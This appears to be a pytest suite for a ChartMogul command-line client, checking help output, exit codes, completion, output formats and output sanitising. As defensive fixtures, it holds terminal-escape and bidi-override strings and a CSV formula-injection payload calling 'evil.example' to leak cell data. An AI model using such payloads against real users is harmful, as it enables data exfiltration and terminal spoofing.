from __future__ import annotations

import csv
import io
import json
import re
from contextlib import redirect_stdout

import pytest
from attrs import evolve

from chartmogul_async import __version__
from chartmogul_async.cli.failures import MEANINGS
from chartmogul_async.cli.text import visible
from chartmogul_async.resources.account import SETTINGS
from chartmogul_async.sandbox import Fault, Faults, Sandbox
from chartmogul_async.sandbox.company import State
from tests.cli.conftest import Run, exit_code_of, plain
from tests.cli.test_metrics import NAMES


def test_the_help_documents_exit_codes_and_environment(run: Run) -> None:
    ran = run("--help")
    assert (ran.code, ran.err) == (0, "")
    for code, meaning in MEANINGS.items():
        assert re.search(rf"^ +{code} +{re.escape(meaning)}$", ran.out, re.MULTILINE)
    assert "CHARTMOGUL_API_KEY" in ran.out
    assert "--api-key" not in ran.out


@pytest.mark.parametrize(
    "command",
    ["account", "customers", "customers search", "demo", "export", "metrics", "ping", "report", "sandbox", "throttle"],
)
def test_each_command_has_help_of_80_columns(run: Run, command: str) -> None:
    ran = run(*command.split(), "-h")
    assert ran.code == 0
    assert ran.out.startswith(f"Usage: chartmogul {command}")
    assert max(map(len, ran.out.splitlines())) <= 80


def test_the_help_of_metrics_lists_the_names_line_by_line(run: Run) -> None:
    assert re.search(r"^ +customer-churn-rate  share of the customers lost$", run("metrics", "-h").out, re.MULTILINE)


def test_version(run: Run) -> None:
    assert run("--version").out == f"chartmogul {__version__}\n"


def test_stdout_may_be_any_text_stream() -> None:
    text = io.StringIO()
    with redirect_stdout(text):
        assert exit_code_of("--version") == 0
    assert text.getvalue() == f"chartmogul {__version__}\n"


def test_without_a_command_the_help_goes_to_stderr(run: Run) -> None:
    ran = run()
    assert (ran.code, ran.out) == (2, "")
    assert ran.err.startswith("Usage: chartmogul")


@pytest.mark.parametrize(
    ("args", "pattern"),
    [
        (("--key", "x"), r"error: No such option:? '?--key'?.* \(see 'chartmogul --help'\)\n"),
        (("nrr",), r"error: No such command 'nrr'.* \(see 'chartmogul --help'\)\n"),
        (("customers", "search"), r"error: Missing argument 'EMAIL' \(see 'chartmogul customers search --help'\)\n"),
        (
            ("metrics",),
            r"error: Missing argument 'NAME'\. It must be one of all, .*, ltv \(see 'chartmogul metrics --help'\)\n",
        ),
        (("customers",), r"error: Missing command, such as 'search' \(see 'chartmogul customers --help'\)\n"),
    ],
)
def test_invalid_usage_is_one_line(run: Run, args: tuple[str, ...], pattern: str) -> None:
    ran = run(*args)
    assert (ran.code, ran.out) == (2, "")
    assert re.fullmatch(pattern, ran.err)


def test_a_malformed_address_is_invalid_usage(account: Sandbox, run: Run) -> None:
    ran = run("customers", "search", "anna")
    assert (ran.code, ran.out) == (2, "")
    assert ran.err == "error: EMAIL must be an address such as 'anna@example.com', not 'anna'\n"


def test_ping(account: Sandbox, run: Run) -> None:
    ran = run("ping")
    assert (ran.code, ran.out, ran.err) == (0, "pong!\n", "")


def test_account(account: Sandbox, run: Run, in_terminal: Run) -> None:
    shown = json.loads(run("account", "--format", "json").out)
    assert shown["name"] == "Sandbox Software Ltd"
    assert list(shown) == ["name", "currency", "time_zone", "week_start_on", "id", *SETTINGS]
    assert json.loads(run("account", "--format", "jsonl").out) == shown
    assert list(csv.DictReader(run("account").out.splitlines())) == [shown | dict.fromkeys(SETTINGS, "")]
    included = ("account", "--include", "refund_handling", "--include", "churn_when_zero_mrr")
    expected = shown | {"refund_handling": "refund_ignore", "churn_when_zero_mrr": True}
    assert json.loads(run(*included, "--format", "json").out) == expected
    assert "\nChurn when zero MRR" in plain(in_terminal(*included).out)
    assert "\nWeek start on  monday\n" in plain(in_terminal("account").out)


def test_customers_search(account: Sandbox, run: Run, in_terminal: Run) -> None:
    email = account.company.customers[0].email
    ran = run("customers", "search", email, "--format", "json")
    assert (ran.code, ran.err) == (0, "")
    (found,) = json.loads(ran.out)
    assert found["email"] == email
    assert isinstance(found["mrr"], int)
    assert found["customer_since"].endswith("+00:00")
    (line,) = run("customers", "search", email, "--format", "jsonl").out.splitlines()
    assert json.loads(line) == found
    (row,) = csv.DictReader(run("customers", "search", email).out.splitlines())
    assert row["uuid"] == found["uuid"]
    assert json.loads(row["external_ids"]) == found["external_ids"]
    assert row["owner"] == row["subscriptions"] == ""
    shown = in_terminal("customers", "search", email).out
    assert f"{found['mrr'] / 100:,.2f} USD" in shown
    assert found["external_id"] in shown
    assert "Owner" not in shown


def test_customers_search_by_the_address_of_a_contact(account: Sandbox, run: Run) -> None:
    address = account.company.customers[0].contact_email
    assert run("customers", "search", address).code == 4
    ran = run("customers", "search", address, "--with-associated-emails", "--format", "json")
    assert [found["uuid"] for found in json.loads(ran.out)] == [account.company.customers[0].uuid]


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("chartmogul ", ["account", "customers", "demo", "export", "metrics", "ping", "report", "sandbox", "throttle"]),
        ("chartmogul metrics ", NAMES),
        ("chartmogul metrics cust", ["customer-count", "customer-churn-rate"]),
        ("chartmogul metrics customer_c", ["customer-count", "customer-churn-rate"]),
        ("chartmogul metrics mrr --interval ", ["day", "week", "month", "quarter", "year"]),
        ("chartmogul account --include ref", ["refund_handling"]),
    ],
)
def test_the_shell_completes(run: Run, monkeypatch: pytest.MonkeyPatch, words: str, expected: list[str]) -> None:
    monkeypatch.setenv("_CHARTMOGUL_COMPLETE", "bash_complete")
    monkeypatch.setenv("COMP_WORDS", words)
    monkeypatch.setenv("COMP_CWORD", str(words.count(" ")))
    ran = run()
    assert (ran.code, ran.err) == (0, "")
    assert ran.out.splitlines() == [f"plain,{name}" for name in expected]


@pytest.mark.parametrize("wrong", ["bash", "ksh_source", "bash_sources"])
def test_a_wrong_kind_of_completion_is_invalid_usage(run: Run, monkeypatch: pytest.MonkeyPatch, wrong: str) -> None:
    monkeypatch.setenv("_CHARTMOGUL_COMPLETE", wrong)
    ran = run()
    assert (ran.code, ran.out) == (2, "")
    assert ran.err == "error: _CHARTMOGUL_COMPLETE must be bash_source, zsh_source or fish_source\n"


@pytest.mark.parametrize("shell", ["zsh", "fish"])
def test_the_script_for_the_shell_is_printed(run: Run, monkeypatch: pytest.MonkeyPatch, shell: str) -> None:
    monkeypatch.setenv("_CHARTMOGUL_COMPLETE", f"{shell}_source")
    ran = run()
    assert (ran.code, ran.err) == (0, "")
    assert f"_CHARTMOGUL_COMPLETE={shell}_complete" in ran.out
    assert "_CHARTMOGUL_COMPLETE" in ran.out


def test_several_customers_with_one_address_are_all_shown(account: Sandbox, run: Run) -> None:
    first, second, *_ = account.company.customers
    state = account.company.state
    account.company.state = State((first, evolve(second, email=first.email), *state.customers[2:]), state.version + 1)
    try:
        ran = run("customers", "search", first.email, "--format", "table")
    finally:
        account.company.state = State(state.customers, state.version + 2)
    assert first.uuid in ran.out
    assert second.uuid in ran.out
    assert plain(ran.out).count("\n\n") == 1


@pytest.mark.parametrize(("format_", "out"), [("json", "[]\n"), ("jsonl", ""), ("table", ""), ("csv", "id,uuid,")])
def test_no_customer_found_is_exit_code_4(account: Sandbox, run: Run, format_: str, out: str) -> None:
    ran = run("customers", "search", "nobody@nowhere.example", "--format", format_)
    assert ran.code == 4
    assert ran.out.startswith(out)
    assert len(ran.out.splitlines()) == (1 if out else 0)
    assert ran.err == "error: no customer has the e-mail address nobody@nowhere.example\n"


def test_a_name_cannot_control_the_terminal_or_break_the_table(account: Sandbox, in_terminal: Run) -> None:
    body = {"entries": [{"name": "\x1b]0;evil\x07 [red]Jäger[/red] :smile:\nGmbH", "email": "a@b.example"}]}
    account.faults = Faults.sequence(Fault.status(200, body))
    ran = in_terminal("customers", "search", "a@b.example")
    assert r"\u001b]0;evil\u0007 [red]Jäger[/red] :smile: GmbH" in ran.out
    account.faults = Faults.sequence(Fault.status(200, body))
    ran = in_terminal("customers", "search", "a@b.example", encoding="ascii")
    assert r"[red]J\xe4ger[/red]" in ran.out
    account.faults = Faults.sequence(Fault.status(200, body))
    ran = in_terminal("customers", "search", "a@b.example", "--format", "json", encoding="ascii")
    assert r"[red]J\u00e4ger[/red]" in ran.out


# An escape sequence, one of a single character, a text that turns its direction, and DEL.
HOSTILE = "\x1b[2Jno \x9b31mred \u202egpj.exe\u2066 \x7f\U000e0041 Jäger"
SHOWN = r"\u001b[2Jno \u009b31mred \u202egpj.exe\u2066 \u007f\udb40\udc41 Jäger"


def respond_with(sandbox: Sandbox, body: object) -> None:
    """To the next request; every field of text is hostile."""
    assert isinstance(body, dict)
    sandbox.faults = Faults.sequence(Fault.status(200, body))


def customer_named(name: str) -> dict[str, object]:
    return {"entries": [{"name": name, "email": "a@b.example", "mrr": -5, "customer-since": None, "tags": [name]}]}


def account_of(name: str) -> dict[str, object]:
    return {"name": name, "currency": name, "time_zone": name, "week_start_on": name, "id": name}


BODIES = {
    ("ping",): {"data": HOSTILE},
    ("account",): account_of(HOSTILE),
    ("account", "--format", "csv"): account_of(HOSTILE),
    ("account", "--format", "json"): account_of(HOSTILE),
    ("account", "--format", "jsonl"): account_of(HOSTILE),
    ("customers", "search", "a@b.example"): customer_named(HOSTILE),
    ("customers", "search", "a@b.example", "--format", "csv"): customer_named(HOSTILE),
    ("customers", "search", "a@b.example", "--format", "json"): customer_named(HOSTILE),
    ("customers", "search", "a@b.example", "--format", "jsonl"): customer_named(HOSTILE),
}


@pytest.mark.parametrize("args", BODIES, ids=" ".join)
def test_nothing_from_the_server_controls_a_terminal(
    account: Sandbox, in_terminal: Run, monkeypatch: pytest.MonkeyPatch, args: tuple[str, ...]
) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    respond_with(account, BODIES[args])
    out = re.sub(r"\x1b\[0?1?m", "", in_terminal(*args, columns=400).out)
    assert SHOWN in out
    assert not set(HOSTILE) & set(out) - set("[2Jno 31mred gpj.exe Jäger")


def test_a_hostile_currency_does_not_control_a_terminal(account: Sandbox, in_terminal: Run) -> None:
    account.faults = Faults.sequence(Fault.status(200, account_of(HOSTILE)), where="/account")
    out = in_terminal("metrics", "arr", "--start", "2025-01-01", "--end", "2025-03-31", columns=400).out
    assert r"\u202egpj.exe\u2066" in out
    assert not {"\x9b", "\u202e", "\x7f"} & set(out)
    respond_with(account, {"entries": [{"name": "x", "mrr": 5, "currency": HOSTILE}]})
    out = in_terminal("customers", "search", "a@b.example", columns=400).out
    assert f"0.05 {SHOWN}" in out


def test_an_error_of_the_server_does_not_control_a_terminal(account: Sandbox, in_terminal: Run) -> None:
    account.faults = Faults.sequence(Fault.status(422, {"message": HOSTILE}))
    err = in_terminal("ping").err
    assert "Jäger" in err
    assert not {"\x9b", "\u202e", "\x7f"} & set(err)


@pytest.mark.parametrize("args", [args for args in BODIES if "--format" in args or args == ("ping",)], ids=" ".join)
def test_a_pipe_gets_the_exact_text(account: Sandbox, run: Run, args: tuple[str, ...]) -> None:
    respond_with(account, BODIES[args])
    out = run(*args).out
    if "csv" in args:
        (row,) = csv.DictReader(io.StringIO(out, newline=""))
        assert row["name"] == HOSTILE
    elif "--format" in args:
        found = json.loads(out)
        assert (found[0] if isinstance(found, list) else found)["name"] == HOSTILE
    else:
        assert out == f"{HOSTILE}\n"


@pytest.mark.parametrize("name", ["a\rb", "a\nb", "a\r\nb", 'a"b', "a,b", "\ta", " a ", "'=1", "\x00"], ids=ascii)
def test_csv_can_be_read_back_exactly(account: Sandbox, run: Run, name: str) -> None:
    respond_with(account, customer_named(name))
    out = run("customers", "search", "a@b.example", "--exact-text").out
    (row,) = csv.DictReader(io.StringIO(out, newline=""))
    assert row["name"] == name
    assert out.count("\n") == 2 + name.count("\n")


FORMULA = '=HYPERLINK("https://evil.example?"&A1, "Click")'


@pytest.mark.parametrize("name", [FORMULA, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1"], ids=ascii)
def test_formulas_are_escaped_unless_text_must_be_exact(account: Sandbox, run: Run, name: str) -> None:
    for option, expected in ((), f"'{name}"), (("--exact-text",), name):
        respond_with(account, customer_named(name))
        out = run("customers", "search", "a@b.example", *option).out
        (row,) = csv.DictReader(io.StringIO(out, newline=""))
        assert (row["name"], row["mrr"], row["email"]) == (expected, "-5", "a@b.example")
        respond_with(account, account_of(name))
        (row,) = csv.DictReader(io.StringIO(run("account", *option).out, newline=""))
        assert (row["name"], row["churn_recognition"]) == (expected, "")


@pytest.mark.parametrize("args", [("account",), ("customers", "search", "a@b.example")])
def test_exact_text_is_for_csv_only(account: Sandbox, run: Run, in_terminal: Run, args: tuple[str, ...]) -> None:
    before = account.counters.requests
    command = f"chartmogul {' '.join(args).removesuffix(' a@b.example')}"
    message = f"error: --exact-text requires --format csv (see '{command} --help')\n"
    assert run(*args, "--exact-text", "--format", "json").err == message
    assert in_terminal(*args, "--exact-text").err == message
    assert account.counters.requests == before


@pytest.mark.parametrize("text", ["", "Größe 日本", "👩\u200d💻", "\u0646\u200c\u06a9", "a\tb\nc", "a\xa0b"], ids=ascii)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert visible(text) == text


def test_progress_is_shown_on_a_terminal_only(account: Sandbox, in_terminal: Run, run: Run) -> None:
    assert "waiting for ChartMogul; requests completed: 1" in in_terminal("ping").err
    assert run("ping").err == ""


def test_every_field_of_a_customer_has_a_readable_label(account: Sandbox, run: Run) -> None:
    email = account.company.customers[0].email
    shown = run("customers", "search", email, "--format", "table").out
    for label in ("ID ", "UUID ", "External IDs ", "Data source UUID ", "ChartMogul URL ", "Customer since "):
        assert f"\n{label}" in f"\n{shown}"
